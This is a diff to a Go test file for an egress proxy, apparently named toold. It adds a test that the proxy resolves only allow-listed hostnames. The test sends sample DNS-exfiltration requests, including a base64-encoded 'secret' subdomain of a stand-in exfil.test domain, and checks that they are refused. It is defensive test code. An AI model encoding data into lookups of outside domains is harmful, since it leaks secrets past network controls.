@@ -7,9 +7,13 @@ import (
 	"io"
 	"net"
 	"net/http"
+	"net/url"
 	"strconv"
 	"strings"
+	"sync"
 	"testing"
+
+	"github.com/prometheus/client_golang/prometheus"
 
 	"github.com/google/go-cmp/cmp"
 
@@ -82,6 +86,46 @@ func TestNamesResolvingInsideAreRefused(t *testing.T) {
 	f = serve(t, Policy{Allow: []string{"inside.test:" + port, "127.0.0.1:" + port}}, names, RunOptions{})
 	if code, body := get(f.client(ca.Pool()), "https://inside.test:"+port+"/"); code != 200 {
 		t.Fatalf("listed: %d %s", code, body)
+	}
+}
+
+// TestOnlyAllowedNamesAreResolved: toold looks up a name only once the
+// allow-list admits it: a run cannot send data out in the names it asks
+// for (DNS exfiltration) through toold's resolver.
+func TestOnlyAllowedNamesAreResolved(t *testing.T) {
+	var mu sync.Mutex
+	var asked []string
+	reg := prometheus.NewRegistry()
+	c, err := Compile(Policy{Allow: []string{"api.test:1"}}, Options{Metrics: NewMetrics(reg),
+		Resolver: egresstest.Resolver(nil, func(n string) { mu.Lock(); asked = append(asked, n); mu.Unlock() })})
+	if err != nil {
+		t.Fatal(err)
+	}
+	r, err := c.NewRun(context.Background(), RunOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	r.Serve(ln)
+	defer r.Close()
+	cl := &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(&url.URL{Scheme: "http", Host: ln.Addr().String()})}}
+	for _, u := range []string{"https://c2VjcmV0.exfil.test/", "http://data.exfil.test/", "https://api.test/", "https://api.test:1/"} {
+		if resp, err := cl.Get(u); err == nil {
+			resp.Body.Close()
+		}
+	}
+	mu.Lock()
+	defer mu.Unlock()
+	for _, n := range asked {
+		if n != "api.test" {
+			t.Errorf("toold resolved %q", n)
+		}
+	}
+	if len(asked) == 0 {
+		t.Error("the allowed name was not resolved")
 	}
 }
 
